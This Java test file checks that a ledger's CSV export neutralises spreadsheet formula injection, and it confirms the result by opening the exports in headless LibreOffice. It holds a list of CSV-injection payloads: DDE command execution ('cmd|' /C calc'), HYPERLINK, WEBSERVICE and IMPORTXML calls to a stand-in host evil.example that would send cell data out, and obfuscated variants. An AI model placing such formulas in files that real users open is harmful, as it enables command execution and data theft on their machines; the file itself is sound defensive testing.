package chancery.assurance;

import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;

import chancery.export.CsvExport;
import chancery.export.Table;
import chancery.ledger.Ledger;
import chancery.ledger.Query;
import java.io.IOException;
import java.io.Writer;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.Objects;
import java.util.Optional;
import java.util.concurrent.TimeUnit;
import java.util.regex.Pattern;
import java.util.stream.Stream;
import java.util.zip.ZipFile;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVParser;
import org.junit.jupiter.api.Assumptions;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/// Cells of strangers that a spreadsheet would run, opened in a spreadsheet.
@Tag("assurance")
class FormulasTest {

    private static final Pattern FORMULA = Pattern.compile("table:formula=");

    /// Sixty of them: what begins a formula, and what may stand before it unseen.
    private static List<String> payloads() {
        List<String> payloads = new ArrayList<>();
        List<String> formulas =
                List.of(
                        "=1+1",
                        "+1+1",
                        "-1+1",
                        "@SUM(1,1)",
                        "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")",
                        "=cmd|' /C calc'!A0",
                        "=WEBSERVICE(\"http://evil.example/\")",
                        "=IMPORTXML(\"http://evil.example/\",\"//a\")",
                        "=DDE(\"soffice\";\"x\";\"y\")",
                        "+cmd|' /C calc'!A0",
                        "-2+3+cmd|' /C calc'!A0",
                        "=\"a\"&\"b\"");
        for (String before : List.of("", " ", "\t", "\r", "\n")) {
            for (String formula : formulas) {
                payloads.add(before + formula);
            }
        }
        payloads.addAll(
                List.of(
                        "＝1+1",
                        "＋1+1",
                        "－1+1",
                        "＠SUM(1)",
                        "\u00a0=1+1",
                        "\ufeff=1+1",
                        "\u200b=1+1",
                        "\"=1+1",
                        "',=1+1",
                        ";=1+1",
                        "x\",=1+1,\"y",
                        "x\n=1+1"));
        return payloads;
    }

    private static Ledger ledger() {
        Ledger ledger = Ledger.openInMemory();
        int number = 0;
        for (String payload : payloads()) {
            ledger.ingest(Strangers.page(number++, payload));
        }
        String first = ledger.ids(Query.all()).getFirst();
        ledger.fix(first, "place", "=1+1, FRA", "=1+1", Optional.of("=1+1"), "=1+1");
        return ledger;
    }

    private static List<Path> tables(Ledger ledger, Path folder, boolean raw) throws IOException {
        List<Path> files = new ArrayList<>();
        for (String table : Arrays.stream(Table.values()).map(Table::id).toList()) {
            Path file = folder.resolve(table + ".csv");
            try (Writer out = Files.newBufferedWriter(file, UTF_8)) {
                CsvExport.write(ledger, table, Query.all(), out, raw);
            }
            files.add(file);
        }
        return files;
    }

    @Test
    void noCellBeginsLikeAFormula(@TempDir Path folder) throws IOException {
        int cells = 0;
        try (Ledger ledger = ledger()) {
            for (Path file : tables(ledger, folder, false)) {
                try (CSVParser parser = CSVParser.parse(file, UTF_8, CSVFormat.RFC4180)) {
                    for (var record : parser) {
                        for (String cell : record) {
                            String start = cell.strip().replaceAll("^[\\p{Z}\\p{C}]+", "");
                            assertThat(start)
                                    .as(file.getFileName().toString())
                                    .doesNotStartWith("=");
                            cells++;
                        }
                    }
                }
            }
        }
        assertThat(cells).isGreaterThan(1000);
    }

    @Test
    @Tag("slow")
    void aSpreadsheetRunsNoneOfThem(@TempDir Path folder) throws Exception {
        Optional<Path> office =
                Stream.of(
                                "/usr/bin/soffice",
                                "/usr/bin/libreoffice",
                                System.getProperty("chancery.soffice", ""))
                        .map(Path::of)
                        .filter(Files::isExecutable)
                        .findFirst();
        Assumptions.assumeTrue(
                office.isPresent(),
                "no LibreOffice; install libreoffice-calc-nogui, or name soffice with -Dchancery.soffice");
        Assumptions.assumeTrue(Assurance.isWhole(), "needs some 20 s; run with -Passurance");
        try (Ledger ledger = ledger()) {
            int safe =
                    formulas(
                            office.get(),
                            tables(ledger, Files.createDirectory(folder.resolve("safe")), false));
            int raw =
                    formulas(
                            office.get(),
                            tables(ledger, Files.createDirectory(folder.resolve("raw")), true));
            assertThat(raw)
                    .as("the spreadsheet does run raw cells, so this test can fail")
                    .isPositive();
            assertThat(safe).isZero();
            Assurance.note(
                    "%d formulas in %d tables opened in LibreOffice: live (with --raw)"
                            .formatted(payloads().size(), Table.values().length),
                    "0",
                    "%d (%d)".formatted(safe, raw));
        }
    }

    private static int formulas(Path office, List<Path> tables) throws Exception {
        Path folder = Objects.requireNonNull(tables.getFirst().getParent());
        List<String> command =
                new ArrayList<>(
                        List.of(
                                office.toString(),
                                "-env:UserInstallation=" + folder.resolve("profile").toUri(),
                                "--headless",
                                // comma, double quote, UTF-8, first line; "evaluate formulas" is
                                // on, as for whoever opens it so
                                "--infilter=CSV:44,34,76,1,,0,false,true,false,false,false,-1,true",
                                "--convert-to",
                                "ods",
                                "--outdir",
                                folder.toString()));
        tables.forEach(table -> command.add(table.toString()));
        Process child =
                new ProcessBuilder(command)
                        .redirectErrorStream(true)
                        .redirectOutput(folder.resolve("office.txt").toFile())
                        .start();
        if (!child.waitFor(120, TimeUnit.SECONDS)) {
            child.destroyForcibly();
        }
        int formulas = 0;
        int opened = 0;
        try (Stream<Path> files = Files.list(folder)) {
            for (Path sheet : files.filter(f -> f.toString().contains(".ods")).toList()) {
                opened++;
                try (ZipFile zip = new ZipFile(sheet.toFile())) {
                    String content =
                            new String(
                                    zip.getInputStream(zip.getEntry("content.xml")).readAllBytes(),
                                    UTF_8);
                    formulas += (int) FORMULA.matcher(content).results().count();
                }
            }
        }
        assertThat(opened).as(Files.readString(folder.resolve("office.txt"))).isPositive();
        return formulas;
    }
}
